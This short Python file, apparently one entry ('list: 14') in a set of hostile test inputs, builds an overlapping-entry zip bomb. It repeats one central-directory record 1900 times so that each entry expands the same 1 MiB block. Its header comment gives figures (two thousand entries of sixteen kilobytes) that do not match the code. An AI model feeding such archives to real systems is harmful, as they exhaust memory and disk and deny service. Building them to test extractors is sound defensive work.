# attack: archive
# root: files
# what: a zip in which two thousand entries are the same sixteen kilobytes
# list: 14
import io
import struct
import zipfile


def archive(right):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("a", bytes(1 << 20))
    data = buffer.getvalue()
    at = data.index(b"PK\x01\x02")
    end = data.index(b"PK\x05\x06")
    entries = data[at:end] * 1900
    tail = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 1900, 1900, len(entries), at, 0)
    return data[:at] + entries + tail
